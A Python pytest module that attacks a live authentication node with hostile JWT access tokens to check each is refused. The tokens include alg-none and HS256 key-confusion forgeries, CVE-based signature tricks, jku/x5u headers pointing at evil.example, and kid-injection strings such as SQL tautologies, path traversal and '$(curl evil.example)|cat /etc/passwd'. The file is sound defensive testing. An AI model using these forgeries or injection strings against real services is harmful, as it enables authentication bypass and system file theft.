"""Hostile access tokens at connect: every structural break, algorithm trick, embedded key,
``kid`` injection, claim edge, odd ``auth`` payload and credential-source confusion.

Each row names its source (RFC section, OpenID RP conformance test id, CVE). Every case
connects a raw client to a live node, checks the CONNECT_ERROR's wire code, then checks that
nothing else broke (``Node.assert_healthy``): in particular that the provider was asked for
nothing (``jku``/``x5u``/``jwk``/``x5c`` are never fetched, and ``kid`` never names a URL).
"""

from __future__ import annotations

import base64
import datetime
import json
import secrets
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

from ssoio.web.sessions import WebSession
from tests.security.harness import ISSUER, Node, example_raw, running_node, settings_from
from tests.support.forge import SigningKey, b64url, forge
from tests.support.raw_client import CONNECT, CONNECT_ERROR, PollingSession, parse_packet
from tests.support.transport_path import HANDSHAKE_LIMITS, MALFORMED_PACKETS, ssoio_only

NOW = 1_800_000_000  # FakeClock's start; the module's node never moves its clock


@pytest.fixture(scope="module")
async def node(rsa_key: SigningKey) -> AsyncIterator[Node]:
    """The example configuration, with an ``authorized_parties`` allow-list."""
    raw = example_raw()
    raw["issuers"][0]["authorized_parties"] = ["ssoio-web"]
    async with running_node(settings_from(raw), key=rsa_key) as running:
        yield running


@dataclass
class Kit:
    """What a case builds its token from."""

    node: Node
    idp_key: SigningKey
    attacker: SigningKey  # another RSA key that claims the IdP's kid
    ec: SigningKey

    def token(self, **claims: Any) -> str:
        return self.node.token("erin", **claims)

    def headed(self, key: SigningKey | bytes | None = None, **header: Any) -> str:
        return self.node.token("erin", key=key, header=header)

    def claims(self, **overrides: Any) -> dict[str, Any]:
        return self.node.claims("erin", **overrides)

    def raw(self, header: dict[str, Any] | bytes, payload: dict[str, Any] | bytes,
            key: SigningKey | bytes | None = None, alg: str | None = None) -> str:  # fmt: skip
        return forge(header, payload, key if key is not None else self.idp_key, alg=alg)

    def public_pem(self) -> bytes:
        return self.idp_key.private.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )


@pytest.fixture
def kit(live: Node, rsa_key: SigningKey, rsa_key_2: SigningKey, ec_key: SigningKey) -> Kit:
    return Kit(live, rsa_key, SigningKey(rsa_key.kid, rsa_key_2.private), ec_key)


HEADER = {"alg": "RS256", "typ": "at+jwt", "kid": "rsa-1"}
JSON_HEADER = b'{"alg":"RS256","typ":"at+jwt","kid":"rsa-1"}'


def seg(data: bytes | str) -> str:
    return b64url(data.encode() if isinstance(data, str) else data)


def claims_bytes(kit: Kit, tail: str) -> bytes:
    """The case's claims as JSON text with ``tail`` spliced in before the closing brace."""
    return (json.dumps(kit.claims(exp=...))[:-1] + ", " + tail + "}").encode()


def _flip(signature: str) -> str:
    raw = bytearray(base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4)))
    raw[len(raw) // 2] ^= 0x01
    return b64url(bytes(raw))


def _swap_payload(kit: Kit) -> str:
    head, _, signature = kit.token().split(".")
    return f"{head}.{seg(json.dumps(kit.node.claims('alice')))}.{signature}"


def _attacker_certificate(key: SigningKey) -> str:
    assert isinstance(key.private, rsa.RSAPrivateKey)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp.test")])
    start = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name)
        .public_key(key.private.public_key()).serial_number(1)
        .not_valid_before(start).not_valid_after(start + datetime.timedelta(days=36500))
        .sign(key.private, hashes.SHA256())
    )  # fmt: skip
    return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()


Build = Callable[[Kit], Any]


@dataclass(frozen=True)
class Case:
    source: str
    build: Build  # -> the token (a str is sent as auth.token)
    code: str


def case_ids(cases: list[Case]) -> list[str]:
    ids = [c.source for c in cases]
    assert len(set(ids)) == len(ids), "duplicate case ids"
    return ids


STRUCTURE = [
    Case("RFC 7519 §7.2 step 1: two segments", lambda k: "eyJhbGciOiJSUzI1NiJ9.e30",
         "token_malformed"),
    Case("RFC 7519 §7.2 step 1: four segments", lambda k: k.token() + ".e30", "token_malformed"),
    Case("RFC 7516 §9: a JWE (five segments)",
         lambda k: ".".join([seg('{"alg":"RSA-OAEP","enc":"A256GCM"}'), "a", "b", "c", "d"]),
         "token_malformed"),
    Case("RFC 7515 §7.1: six segments", lambda k: k.token() + ".a.b", "token_malformed"),
    Case("RFC 7515 §7.1: only dots", lambda k: "..", "token_malformed"),
    Case("RFC 7515 §7.1: empty signature under alg RS256",
         lambda k: k.token().rsplit(".", 1)[0] + ".", "token_malformed"),
    Case("RFC 7515 §2: base64 padding", lambda k: k.token() + "==", "token_malformed"),
    Case("RFC 7515 §2: the standard alphabet ('+', '/')",
         lambda k: k.token()[:-2] + "+/", "token_malformed"),
    Case("RFC 7515 §2: a non-ASCII character", lambda k: k.token() + "é", "token_malformed"),
    Case("RFC 7515 §2: a line break inside a segment",
         lambda k: k.token().replace(".", ".\n", 1), "token_malformed"),
    Case("RFC 7515 §7.1: surrounding whitespace", lambda k: f" {k.token()} ", "token_malformed"),
    Case("RFC 7515 §5.2 step 3: header is not JSON",
         lambda k: k.raw(b"{not json", k.claims()), "token_malformed"),
    Case("RFC 7515 §5.2 step 4: header is a JSON array",
         lambda k: k.raw(b'["RS256"]', k.claims()), "token_malformed"),
    Case("RFC 7519 §7.2 step 10: payload is not JSON",
         lambda k: k.raw(HEADER, b"sub=erin"), "token_malformed"),
    Case("RFC 7519 §7.2 step 10: payload is a JSON string",
         lambda k: k.raw(HEADER, b'"erin"'), "token_malformed"),
    Case("RFC 7519 §7.2 step 10: payload is not UTF-8",
         lambda k: k.raw(HEADER, b'{"sub": "\xff\xfe"}'), "token_malformed"),
    Case("RFC 7519 §7.2: a signed JWT as the payload (nested without cty)",
         lambda k: k.raw(HEADER, json.dumps(k.token()).encode()), "token_malformed"),
    Case("RFC 7515 §5.2 / RFC 8725 §2.1: duplicate alg (none, then RS256)",
         lambda k: k.raw(b'{"alg":"none","alg":"RS256","kid":"rsa-1"}', k.claims(), alg="RS256"),
         "token_malformed"),
    Case("RFC 7519 §4: duplicate sub (erin, then alice)",
         lambda k: k.raw(JSON_HEADER, claims_bytes(k, '"sub": "alice"')), "token_malformed"),
    Case("RFC 8259 §6: exp NaN",
         lambda k: k.raw(JSON_HEADER, claims_bytes(k, '"exp": NaN')), "token_malformed"),
    Case("RFC 8259 §6: exp Infinity",
         lambda k: k.raw(JSON_HEADER, claims_bytes(k, '"exp": Infinity')), "token_malformed"),
    Case("RFC 8259 §9: 5000 nested arrays (parser recursion)",
         lambda k: k.raw(JSON_HEADER, b'{"x": ' + b"[" * 5000 + b"]" * 5000 + b"}"),
         "token_malformed"),
    Case("RFC 7515 §4.1.1: alg missing",
         lambda k: k.headed(alg=..., typ="at+jwt"), "token_malformed"),
    Case("RFC 7515 §4.1.1: alg not a string",
         lambda k: k.raw({**HEADER, "alg": ["RS256"]}, k.claims(), alg="RS256"),
         "token_malformed"),
    Case("RFC 7515 §4.1.1: alg empty", lambda k: k.headed(alg=""), "token_malformed"),
    Case("RFC 7515 §4.1.11: crit (an extension we do not understand)",
         lambda k: k.headed(crit=["exp"], exp=1), "token_malformed"),
    Case("RFC 7797 §3: b64 false (unencoded payload)",
         lambda k: k.headed(b64=False, crit=["b64"]), "token_malformed"),
    Case("RFC 7516 §4.1.3: zip in a JWS", lambda k: k.headed(zip="DEF"), "token_malformed"),
    Case("RFC 7519 §5.2: nested JWT (cty JWT)", lambda k: k.headed(cty="JWT"), "token_malformed"),
    Case("RFC 7519 §5.2: nested JWT (cty jwt, lower case)", lambda k: k.headed(cty="jwt"),
         "token_malformed"),
    Case("DESIGN.md: an empty token", lambda k: "", "token_missing"),
]  # fmt: skip

ALGORITHMS = [
    Case("rp-id_token-sig-none / RFC 8725 §3.1: alg none",
         lambda k: k.raw({**HEADER, "alg": "none"}, k.claims(), None), "algorithm_not_allowed"),
    Case("RFC 8725 §3.1: alg None", lambda k: k.raw({**HEADER, "alg": "None"}, k.claims(), None),
         "algorithm_not_allowed"),
    Case("RFC 8725 §3.1: alg NONE", lambda k: k.raw({**HEADER, "alg": "NONE"}, k.claims(), None),
         "algorithm_not_allowed"),
    Case("RFC 8725 §3.1: alg nOnE", lambda k: k.raw({**HEADER, "alg": "nOnE"}, k.claims(), None),
         "algorithm_not_allowed"),
    Case("CVE-2015-9235: alg none with the signature kept",
         lambda k: k.raw({**HEADER, "alg": "none"}, k.claims(), alg="RS256"),
         "algorithm_not_allowed"),
    Case("CVE-2015-9235: HS256 keyed with the IdP's public key (PEM)",
         lambda k: k.raw({**HEADER, "alg": "HS256"}, k.claims(), k.public_pem()),
         "algorithm_not_allowed"),
    Case("CVE-2016-10555: HS256 keyed with the IdP's public key (DER)",
         lambda k: k.raw({**HEADER, "alg": "HS256"}, k.claims(),
                         k.idp_key.private.public_key().public_bytes(
                             serialization.Encoding.DER,
                             serialization.PublicFormat.SubjectPublicKeyInfo)),
         "algorithm_not_allowed"),
    Case("CVE-2016-10555: HS256 keyed with the IdP's public JWK (JSON)",
         lambda k: k.raw({**HEADER, "alg": "HS256"}, k.claims(),
                         json.dumps(k.idp_key.jwk).encode()), "algorithm_not_allowed"),
    Case("CVE-2016-10555: HS512 keyed with the IdP's public key (PKCS#1 PEM)",
         lambda k: k.raw({**HEADER, "alg": "HS512"}, k.claims(),
                         k.idp_key.private.public_key().public_bytes(
                             serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)),
         "algorithm_not_allowed"),
    Case("RFC 8725 §3.1: RS512 (signed by the IdP key) outside the allow-list",
         lambda k: k.headed(alg="RS512"), "algorithm_not_allowed"),
    Case("RFC 8725 §3.1: PS256 (signed by the IdP key) outside the allow-list",
         lambda k: k.headed(alg="PS256"), "algorithm_not_allowed"),
    Case("RFC 8725 §3.1: ES256 by an attacker's EC key",
         lambda k: k.headed(key=k.ec, alg="ES256"), "algorithm_not_allowed"),
    Case("CVE-2022-21449: ES256 with r = s = 0 (psychic signature)",
         lambda k: k.raw({**HEADER, "alg": "ES256"}, k.claims(), None) + seg(b"\0" * 64),
         "algorithm_not_allowed"),
    Case("RFC 7518 §3.1: alg in lower case (rs256)", lambda k: k.headed(alg="rs256"),
         "algorithm_not_allowed"),
    Case("RFC 7518 §3.1: alg with a trailing space", lambda k: k.headed(alg="RS256 "),
         "algorithm_not_allowed"),
    Case("RFC 7518 §3.1: an unknown alg (RS1)", lambda k: k.headed(alg="RS1"),
         "algorithm_not_allowed"),
    Case("RFC 8037 §3.1: EdDSA outside the allow-list", lambda k: k.headed(alg="EdDSA"),
         "algorithm_not_allowed"),
]  # fmt: skip

EMBEDDED_KEYS = [
    Case("CVE-2018-0114: an embedded jwk header (the attacker's key, the IdP's kid)",
         lambda k: k.headed(key=k.attacker, jwk=k.attacker.jwk), "signature_invalid"),
    Case("CVE-2018-0114: an embedded jwk header with the attacker's own kid",
         lambda k: k.headed(key=SigningKey("attacker", k.attacker.private),
                            jwk={**k.attacker.jwk, "kid": "attacker"}), "key_unknown"),
    Case("RFC 8725 §3.10 / RFC 7515 §4.1.2: jku to an attacker's JWKS",
         lambda k: k.headed(key=k.attacker, jku="https://evil.example/jwks.json"),
         "signature_invalid"),
    Case("RFC 7515 §4.1.2: jku to the IdP's own JWKS URL with an unknown kid",
         lambda k: k.headed(key=SigningKey("evil", k.attacker.private),
                            jku=f"{ISSUER}/protocol/openid-connect/certs"), "key_unknown"),
    Case("RFC 7515 §4.1.5: x5u to an attacker's certificate",
         lambda k: k.headed(key=k.attacker, x5u="https://evil.example/cert.pem"),
         "signature_invalid"),
    Case("RFC 7515 §4.1.6: x5c holding the attacker's self-signed certificate",
         lambda k: k.headed(key=k.attacker, x5c=[_attacker_certificate(k.attacker)]),
         "signature_invalid"),
    Case("RFC 7515 §4.1.6: x5c without a kid",
         lambda k: k.headed(key=k.attacker, kid=..., x5c=[_attacker_certificate(k.attacker)]),
         "signature_invalid"),
    Case("RFC 7515 §4.1.7: x5t of the attacker's certificate",
         lambda k: k.headed(key=k.attacker, x5t=seg(secrets.token_bytes(20))),
         "signature_invalid"),
]  # fmt: skip


def kid_case(label: str, kid: Any, code: str) -> Case:
    return Case(f"kid injection: {label}", lambda k: k.headed(kid=kid), code)


KID_INJECTION = [
    kid_case(label, kid, code)
    for label, kid, code in [
        ("path traversal to /dev/null (CVE-2018-1000531 family)", "../../../../../../dev/null",
         "key_unknown"),
        ("absolute path", "/etc/passwd", "key_unknown"),
        ("SQL tautology", "' OR '1'='1", "key_unknown"),
        ("SQL union", "x' UNION SELECT 'secret' --", "key_unknown"),
        ("shell metacharacters", "$(curl evil.example)|cat /etc/passwd", "key_unknown"),
        ("a URL", "https://evil.example/key.pem", "key_unknown"),
        ("NUL after the real kid", "rsa-1\u0000", "key_unknown"),
        ("the real kid in upper case", "RSA-1", "key_unknown"),
        ("the real kid with a leading space", " rsa-1", "key_unknown"),
        ("the real kid, traversed", "rsa-1/../rsa-1", "key_unknown"),
        ("empty string", "", "key_unknown"),
        ("10,000 characters", "k" * 10_000, "key_unknown"),
        ("an integer", 1, "token_malformed"),
        ("a list holding the real kid", ["rsa-1"], "token_malformed"),
        ("a NoSQL operator object", {"$ne": None}, "token_malformed"),
        ("a boolean", True, "token_malformed"),
    ]
]  # fmt: skip

SIGNATURES = [
    Case("rp-id_token-bad-sig-rs256: another key under the IdP's kid",
         lambda k: k.node.token("erin", key=k.attacker), "signature_invalid"),
    Case("rp-id_token-kid-absent-single-jwks: no kid, another key",
         lambda k: k.headed(key=k.attacker, kid=...), "signature_invalid"),
    Case("RFC 7515 §5.2 step 8: one signature bit flipped",
         lambda k: (lambda t: t.rsplit(".", 1)[0] + "." + _flip(t.rsplit(".", 1)[1]))(k.token()),
         "signature_invalid"),
    Case("RFC 7515 §5.2 step 8: signature truncated", lambda k: k.token()[:-10],
         "signature_invalid"),
    Case("RFC 7515 §5.2 step 8: payload swapped after signing (erin -> alice)", _swap_payload,
         "signature_invalid"),
    Case("RFC 7515 §5.2 step 8: header re-encoded after signing",
         lambda k: seg(json.dumps(HEADER, indent=1)) + "." + k.token().split(".", 1)[1],
         "signature_invalid"),
    Case("RFC 7515 §5.2 step 8: the signature of another token",
         lambda k: k.token().rsplit(".", 1)[0] + "." + k.token(sub="x").rsplit(".", 1)[1],
         "signature_invalid"),
    Case("RFC 8017 §8.2.2: 256 zero bytes as the signature",
         lambda k: k.token().rsplit(".", 1)[0] + "." + seg(b"\0" * 256), "signature_invalid"),
    Case("RFC 8017 §8.2.2: a 512-byte signature",
         lambda k: k.token().rsplit(".", 1)[0] + "." + seg(secrets.token_bytes(512)),
         "signature_invalid"),
    Case("rp-key-rotation-op-sign-key: a kid the IdP never published (within the cool-down)",
         lambda k: k.node.token("erin", key=SigningKey("rsa-9", k.attacker.private)),
         "key_unknown"),
]  # fmt: skip


def claim(label: str, code: str, **overrides: Any) -> Case:
    return Case(label, lambda k: k.token(**overrides), code)


def header_typ(label: str, typ: Any) -> Case:
    return Case(label, lambda k: k.headed(typ=typ), "claims_invalid")


CLAIMS = [
    claim("RFC 7519 §4.1.4 / RFC 9068 §2.2: exp missing", "claims_invalid", exp=...),
    claim("RFC 7519 §4.1.4: exp null", "claims_invalid", exp=None),
    claim("RFC 7519 §2 NumericDate: exp a string", "claims_invalid", exp=str(NOW + 300)),
    claim("RFC 7519 §2 NumericDate: exp a boolean", "claims_invalid", exp=True),
    Case("RFC 7519 §2 NumericDate: exp 1e400 (overflows to infinity)",
         lambda k: k.raw(JSON_HEADER, claims_bytes(k, '"exp": 1e400')), "claims_invalid"),
    claim("RFC 7519 §2 NumericDate: exp a list", "claims_invalid", exp=[NOW + 300]),
    claim("RFC 7519 §2 NumericDate: exp an object", "claims_invalid", exp={"$gt": 0}),
    claim("RFC 7519 §4.1.4: exp -1", "token_expired", exp=-1),
    claim("RFC 7519 §4.1.4: exp 0", "token_expired", exp=0),
    claim("RFC 7519 §4.1.4: exp just past the 30 s leeway", "token_expired", exp=NOW - 31),
    claim("RFC 7519 §4.1.4: exp a float in the past", "token_expired", exp=NOW - 3600.5),
    claim("README tokens.max_lifetime_s: exp 1e20", "claims_invalid", exp=1e20),
    claim("README tokens.max_lifetime_s: a far-future exp (year 33658)", "claims_invalid",
          exp=10**12),
    claim("README tokens.max_lifetime_s: exp - iat one second over 24 h", "claims_invalid",
          exp=NOW + 86401),
    claim("README tokens.max_lifetime_s: an old iat, exp - now over 24 h + leeway",
          "claims_invalid", iat=NOW - 3600, exp=NOW + 86400 + 31),
    claim("rp-id_token-iat: iat missing", "claims_invalid", iat=...),
    claim("RFC 7519 §4.1.6: iat in the future beyond the leeway", "token_not_yet_valid",
          iat=NOW + 31, exp=NOW + 600),
    claim("RFC 7519 §2 NumericDate: iat a string", "claims_invalid", iat="now"),
    claim("RFC 7519 §2 NumericDate: iat a boolean", "claims_invalid", iat=False),
    claim("RFC 7519 §4.1.5: nbf in the future beyond the leeway", "token_not_yet_valid",
          nbf=NOW + 31),
    claim("RFC 7519 §2 NumericDate: nbf a string", "claims_invalid", nbf="soon"),
    claim("RFC 7519 §2 NumericDate: nbf a boolean", "claims_invalid", nbf=True),
    claim("rp-id_token-issuer-mismatch: iss with a trailing slash", "issuer_unknown",
          iss=ISSUER + "/"),
    claim("RFC 7519 §4.1.1 (case-sensitive): iss host in upper case", "issuer_unknown",
          iss=ISSUER.replace("idp.test", "IDP.TEST")),
    claim("RFC 7519 §4.1.1: iss with a leading space", "issuer_unknown", iss=" " + ISSUER),
    claim("RFC 7519 §4.1.1: iss with a trailing newline", "issuer_unknown", iss=ISSUER + "\n"),
    claim("UTS #39 confusables: iss with a Cyrillic a (U+0430)", "issuer_unknown",
          iss=ISSUER.replace("acme", "\u0430cme")),
    claim("UTS #39 confusables: iss with fullwidth letters", "issuer_unknown",
          iss=ISSUER.replace("acme", "\uff41\uff43\uff4d\uff45")),
    claim("RFC 7519 §4.1.1: iss over http instead of https", "issuer_unknown",
          iss=ISSUER.replace("https://", "http://")),
    claim("RFC 3986 §5.2.4: iss with a dot segment", "issuer_unknown",
          iss=ISSUER + "/../acme"),
    claim("RFC 9068 §4: iss missing", "issuer_unknown", iss=...),
    claim("RFC 7519 §4.1.1: iss a list", "issuer_unknown", iss=[ISSUER]),
    claim("RFC 7519 §4.1.1: iss null", "issuer_unknown", iss=None),
    claim("rp-id_token-aud: aud missing", "audience_mismatch", aud=...),
    claim("rp-id_token-aud: another audience", "audience_mismatch", aud="other-api"),
    claim("RFC 7519 §4.1.3: an array without our audience", "audience_mismatch",
          aud=["other-api", "account"]),
    claim("RFC 7519 §4.1.3: an empty array", "audience_mismatch", aud=[]),
    claim("RFC 7519 §4.1.3: our audience nested in an array", "audience_mismatch",
          aud=[["ssoio-api"]]),
    claim("RFC 7519 §4.1.3: our audience as an object key", "audience_mismatch",
          aud={"ssoio-api": True}),
    claim("RFC 7519 §4.1.3 (case-sensitive): aud in upper case", "audience_mismatch",
          aud="SSOIO-API"),
    claim("RFC 7519 §4.1.3: aud with a trailing space", "audience_mismatch", aud="ssoio-api "),
    claim("RFC 7519 §4.1.3: aud a number", "audience_mismatch", aud=5),
    claim("rp-id_token-sub: sub missing", "claims_invalid", sub=...),
    claim("RFC 9068 §2.2: sub empty", "claims_invalid", sub=""),
    claim("RFC 9068 §2.2: sub only whitespace", "claims_invalid", sub="   "),
    claim("RFC 9068 §2.2: sub a number", "claims_invalid", sub=42),
    claim("RFC 9068 §2.2: sub a list", "claims_invalid", sub=["erin"]),
    claim("RFC 7519 §4.1.2: sub of 256 characters", "claims_invalid", sub="e" * 256),
    claim("OIDC Core §3.1.3.6: an ID token (nonce) as an access token", "claims_invalid",
          nonce="n-0S6_WzA2Mj"),
    claim("OIDC Core §3.3.2.11: an ID token (at_hash) as an access token", "claims_invalid",
          at_hash="77QmUPtjPfzWtF2AnpK9RQ"),
    claim("OIDC Core §3.3.2.11: an ID token (c_hash) as an access token", "claims_invalid",
          c_hash="LDktKdoQak3Pk0cnXxCltA"),
    claim("Keycloak: an ID token (typ claim ID) as an access token", "claims_invalid", typ="ID"),
    header_typ("RFC 9068 §4 / RFC 8725 §3.11: header typ id_token+jwt", "id_token+jwt"),
    header_typ("RFC 8725 §3.11: header typ logout+jwt (a logout token)", "logout+jwt"),
    header_typ("RFC 8417 §2.3: header typ secevent+jwt", "secevent+jwt"),
    header_typ("RFC 7515 §4.1.9: header typ a number", 7),
    claim("RFC 9068 §4 / authorized_parties: another client's token", "claims_invalid",
          client_id="other-client", azp="other-client"),
    claim("authorized_parties: client_id of another client beside our azp", "claims_invalid",
          client_id="other-client"),
    claim("authorized_parties: no client_id and no azp", "claims_invalid",
          client_id=..., azp=...),
    claim("authorized_parties: client_id a list", "claims_invalid",
          client_id=["ssoio-web"], azp=...),
    claim("authorized_parties: client_id with a trailing space", "claims_invalid",
          client_id="ssoio-web ", azp=...),
    claim("README claim mapping: realm_access a string", "claims_invalid", realm_access="admin"),
    claim("README claim mapping: groups a number", "claims_invalid", groups=5),
    claim("README claim mapping: scope a number", "claims_invalid", scope=5),
    claim("README claim mapping: tenant an object", "claims_invalid", tenant={"id": "acme"}),
    claim("README claim mapping: preferred_username a list", "claims_invalid",
          preferred_username=["alice"]),
]  # fmt: skip

TOKEN_CASES = STRUCTURE + ALGORITHMS + EMBEDDED_KEYS + KID_INJECTION + SIGNATURES + CLAIMS


def _message(data: dict[str, Any]) -> str:
    return str(data.get("message"))


@pytest.mark.parametrize("case", TOKEN_CASES, ids=case_ids(TOKEN_CASES))
async def test_refused_token(live: Node, kit: Kit, case: Case) -> None:
    token = case.build(kit)
    live.remember(token)
    refusal = await live.refusal({"token": token})
    assert refusal["message"] == "unauthorized", refusal
    assert refusal["data"]["code"] == case.code, refusal
    assert set(refusal["data"]) == {"code", "message"}
    assert live.accepted() == 0
    await live.assert_healthy()


ACCEPTED = [
    Case("control: a valid token", lambda k: k.token(), "erin"),
    Case("RFC 7515 §4.1.4: kid null means no kid (one key fits)",
         lambda k: k.headed(kid=None), "erin"),
    Case("RFC 7519 §4.1.4: exp within the 30 s leeway", lambda k: k.token(exp=NOW - 29), "erin"),
    Case("RFC 7519 §4.1.3: an array holding our audience",
         lambda k: k.token(aud=["account", "ssoio-api"]), "erin"),
    Case("Keycloak < 25: a Bearer access token carrying the login nonce",
         lambda k: k.token(typ="Bearer", nonce="n-1"), "erin"),
    Case("README tokens.max_lifetime_s: a lifetime of exactly 24 h",
         lambda k: k.token(exp=NOW + 86400), "erin"),
    Case("RFC 7515 §4: an unregistered header parameter is ignored (Entra ID x5t style)",
         lambda k: k.headed(x5t="abc", nonce="header-nonce"), "erin"),
    Case("README: extra members of auth are ignored, the token decides",
         lambda k: {"token": k.token(), "sub": "alice", "roles": ["admin"]}, "erin"),
]  # fmt: skip


@pytest.mark.parametrize("case", ACCEPTED, ids=case_ids(ACCEPTED))
async def test_accepted_edge(live: Node, kit: Kit, case: Case) -> None:
    built = case.build(kit)
    auth = built if isinstance(built, dict) else {"token": built}
    answer = await live.connect(auth)
    assert answer.type == CONNECT, answer.raw
    connection = live.server.gateway.connections.get(str(answer.data["sid"]))
    assert connection is not None
    assert connection.principal.subject == case.code  # (the expected subject)
    assert "admin" not in connection.principal.roles
    await live.assert_healthy()


AUTH_PAYLOADS: list[tuple[str, str, str]] = [
    # (source, raw CONNECT payload, code): python-socketio passes a falsy payload as "no auth"
    ("Socket.IO v5 §CONNECT: no auth at all", "", "token_missing"),
    ("Socket.IO v5 §CONNECT: auth null", "null", "token_missing"),
    ("Socket.IO v5 §CONNECT: auth an empty object", "{}", "token_missing"),
    ("Socket.IO v5 §CONNECT: auth an empty list (falsy: no auth)", "[]", "token_missing"),
    ("Socket.IO v5 §CONNECT: auth a list", '["eyJ.e30.c2ln"]', "token_malformed"),
    ("Socket.IO v5 §CONNECT: auth a string", '"eyJ.e30.c2ln"', "token_malformed"),
    ("Socket.IO v5 §CONNECT: auth a negative number", "-42", "token_malformed"),
    (
        "Socket.IO v5 §packet encoding: digits after CONNECT are an ack id, not auth",
        "42",
        "token_missing",
    ),
    ("Socket.IO v5 §CONNECT: auth true", "true", "token_malformed"),
    ("DESIGN.md: auth.token an object", '{"token": {"value": "x"}}', "token_malformed"),
    ("DESIGN.md: auth.token a list", '{"token": ["x"]}', "token_malformed"),
    ("DESIGN.md: auth.token null", '{"token": null}', "token_malformed"),
    ("DESIGN.md: auth.token a number", '{"token": 5}', "token_malformed"),
    ("DESIGN.md: auth.token true", '{"token": true}', "token_malformed"),
    ("DESIGN.md: auth.token empty", '{"token": ""}', "token_missing"),
    ("DESIGN.md: auth.Token (wrong case) is no token", '{"Token": "x.y.z"}', "token_missing"),
    ("DESIGN.md: auth.access_token is no token", '{"access_token": "x.y.z"}', "token_missing"),
    (
        "RFC 8259 §9: auth nested 300 deep",
        '{"token": ' + '{"a": ' * 300 + "1" + "}" * 301,
        "token_malformed",
    ),
]


@pytest.mark.parametrize(("source", "payload", "code"), AUTH_PAYLOADS,
                         ids=[p[0] for p in AUTH_PAYLOADS])  # fmt: skip
async def test_odd_auth_payload(live: Node, source: str, payload: str, code: str) -> None:
    socket = await live.open()
    answer = await socket.connect(raw_auth=payload)
    assert answer is not None, source
    assert isinstance(answer.data, dict), answer.raw
    assert answer.data["data"]["code"] == code, answer.raw
    await live.assert_healthy()


async def test_auth_over_the_transport_limit_closes_the_transport(live: Node, kit: Kit) -> None:
    """README input bounds: beyond 4 x max_payload_bytes the transport itself is closed."""
    socket = await live.open()
    await socket.send("40" + json.dumps({"token": "a" * 1_000_000}))
    assert await socket.wait_closed(3)
    await live.assert_healthy()


async def test_oversized_bearer_token(live: Node, kit: Kit) -> None:
    """tokens.max_bytes (README error codes): a signed token of 16 KiB + 1 in the header
    of a long-polling session (the WebSocket case follows)."""
    token = live.remember(kit.token(pad="x" * 11_600))
    assert 16_384 < len(token) < 16_800
    async with httpx.AsyncClient() as http:
        session = await PollingSession.open(
            http, live.url, headers={"Authorization": f"Bearer {token}"}
        )
        assert (await session.post("40")).status_code == 200
        _, frames = await session.get()
        await session.close()
    answer = parse_packet(frames[0]) if frames else None
    assert answer is not None, frames
    assert answer.type == CONNECT_ERROR, answer.raw
    assert answer.data["data"]["code"] == "token_malformed", answer.raw
    await live.assert_healthy()


@ssoio_only(HANDSHAKE_LIMITS)
async def test_oversized_bearer_token_on_a_websocket(live: Node, kit: Kit) -> None:
    """The same over a WebSocket handshake: its header line (16 KiB + "Bearer ") is over
    websockets' default 8 KiB, so ssoio raises that limit to tokens.max_bytes + 1 KiB."""
    token = live.remember(kit.token(pad="x" * 11_600))
    answer = await live.connect(None, headers={"Authorization": f"Bearer {token}"})
    assert answer.type == CONNECT_ERROR, answer.raw
    assert answer.data["data"]["code"] == "token_malformed", answer.raw
    await live.assert_healthy()


@pytest.mark.parametrize("pad", [16_400, 20_000, 40_000], ids=lambda n: f"token of {n} bytes")
async def test_auth_over_the_payload_limit_is_refused_with_a_code(
    live: Node, kit: Kit, pad: int
) -> None:
    """DESIGN.md: a refused connection raises connect_error with a code. A token over
    tokens.max_bytes (16 KiB) makes a CONNECT over realtime.max_payload_bytes (16 KiB) and
    under the transport limit (4 x 16 KiB + 1 KiB)."""
    token = live.remember(kit.token(pad="x" * pad))
    socket = await live.open()
    answer = await socket.connect({"token": token}, timeout_s=5.0)
    try:
        assert answer is not None, "no answer to a CONNECT over the payload limit"
        assert answer.data["data"]["code"] in ("token_malformed", "payload_too_large")
    finally:
        await live.assert_healthy()


async def test_auth_over_the_transport_limit_closes_the_websocket(live: Node, kit: Kit) -> None:
    """README input bounds: a message over the transport limit closes the transport."""
    token = live.remember(kit.token(pad="x" * 60_000))
    socket = await live.open()
    answer = await socket.connect({"token": token}, timeout_s=0.5)
    try:
        assert answer is None
        assert await socket.wait_closed(1.0), "the WebSocket is still open"
    finally:
        await live.assert_healthy()


@ssoio_only(MALFORMED_PACKETS)
async def test_malformed_auth_json_closes_the_session(live: Node) -> None:
    """README input bounds: a malformed packet closes the session with one log line."""
    socket = await live.open()
    await socket.send('40{"token": "x.y.z"')
    answer = await socket.expect(lambda p: p.type in (0, 4), 1.0)
    assert answer is None
    await live.assert_healthy()


# -- credential sources: a present-but-invalid credential never falls through ---------------


def _cookie(live: Node, token: str) -> str:
    login = live.server.login
    assert login is not None
    session = WebSession(
        secrets.token_urlsafe(16), live.clock(), live.clock() + 3600, issuer="primary",
        subject="erin", idp_session="idp-session-erin", access_token=token,
        access_expires_at=live.clock() + 300,
    )  # fmt: skip
    live.sessions_to_drop.append(session.id)
    login.store._sessions[session.id] = session  # type: ignore[attr-defined]
    return f"ssoio_session={login.cookies.sign(session.id)}"


Source = Callable[[Node, Kit], tuple[Any, dict[str, str], str]]  # auth, headers, query


def _forged(kit: Kit) -> str:
    return kit.node.token("erin", key=kit.attacker)


PRECEDENCE: list[tuple[str, Source, str]] = [
    ("DESIGN.md: forged auth.token beside a valid Bearer header",
     lambda n, k: ({"token": _forged(k)}, {"Authorization": f"Bearer {k.token()}"}, ""),
     "signature_invalid"),
    ("DESIGN.md: empty auth.token beside a valid Bearer header",
     lambda n, k: ({"token": ""}, {"Authorization": f"Bearer {k.token()}"}, ""),
     "token_missing"),
    ("DESIGN.md: auth.token a number beside a valid Bearer header",
     lambda n, k: ({"token": 5}, {"Authorization": f"Bearer {k.token()}"}, ""),
     "token_malformed"),
    ("DESIGN.md: forged Bearer header beside a valid session cookie",
     lambda n, k: (None, {"Authorization": f"Bearer {_forged(k)}",
